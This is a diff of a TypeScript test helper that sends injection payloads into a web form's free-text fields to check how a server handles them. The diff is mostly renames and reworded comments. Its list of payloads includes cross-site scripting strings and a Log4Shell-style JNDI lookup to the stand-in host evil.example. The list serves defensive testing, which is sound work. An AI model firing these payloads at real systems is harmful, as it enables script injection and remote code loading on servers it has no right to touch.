@@ -5,7 +5,7 @@ import { type Fields, type FilePart, multipartBody } from '../../support/server/
 import { type Answer, send } from '../support/http.ts';
 import { asFields, type Target, validPayload } from '../support/targets.ts';
 
-/** Texts that act in the page, spreadsheet, terminal or mail program of whoever reads them. */
+/** Texts that could do something in the page, spreadsheet, terminal or mail program of a reader. */
 export const INJECTION_TEXTS: readonly string[] = [
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
@@ -48,7 +48,7 @@ export const INJECTION_TEXTS: readonly string[] = [
   '%s%n%x ${jndi:ldap://evil.example/a}',
 ];
 
-function isFree(field: FieldSchema): boolean {
+function isFreeText(field: FieldSchema): boolean {
   return field.type === 'string' && field.enum === undefined && !isFileField(field);
 }
 
@@ -64,12 +64,12 @@ async function sendOnce(
   if (target.route.encoding === 'json') {
     return send(url, { path, headers: { ...headers, 'content-type': 'application/json' }, body: JSON.stringify(payload) });
   }
-  // A file's name cannot hold what would end the line it stands in.
-  const named: FilePart = { name: `${filename.replace(/[\r\n"]/g, '_')}.pdf`, content: PDF };
+  // A file name cannot contain what would end its header line.
+  const renamed: FilePart = { name: `${filename.replace(/[\r\n"]/g, '_')}.pdf`, content: PDF };
   const fields: Fields = Object.fromEntries(
     Object.entries(asFields(payload, target.route.schema)).map(([name, value]) => [
       name,
-      typeof value === 'object' && 'name' in value ? named : value,
+      typeof value === 'object' && 'name' in value ? renamed : value,
     ]),
   );
   const body = multipartBody(fields);
@@ -77,17 +77,17 @@ async function sendOnce(
 }
 
 /**
- * Puts texts into every field of a form that takes them, another one into each: `round` says which comes first.
+ * Sends a form with a different text in every field that accepts one. `round` chooses the first text.
  *
- * @returns how many fields took one
+ * @returns the number of fields that accepted their text
  */
 export async function poison(url: string, target: Target, round: number, id?: string, cookie?: string): Promise<number> {
   const path = id === undefined ? target.path : `${target.path}?id=${id}`;
   const { properties } = target.route.schema;
   const valid = validPayload(target);
-  const names = Object.keys(properties).filter((name) => name !== 'id' && isFree(properties[name] ?? {}));
+  const names = Object.keys(properties).filter((name) => name !== 'id' && isFreeText(properties[name] ?? {}));
   let fields = names;
-  const textAt = (place: number) => INJECTION_TEXTS[(round + place * 5) % INJECTION_TEXTS.length] ?? '';
+  const textAt = (index: number) => INJECTION_TEXTS[(round + index * 5) % INJECTION_TEXTS.length] ?? '';
   for (let tries = 0; tries < 3; tries += 1) {
     const poisoned = Object.fromEntries(fields.map((name) => [name, textAt(names.indexOf(name))]));
     const answer = await sendOnce(url, target, { ...valid, ...poisoned }, textAt(0), path, cookie);
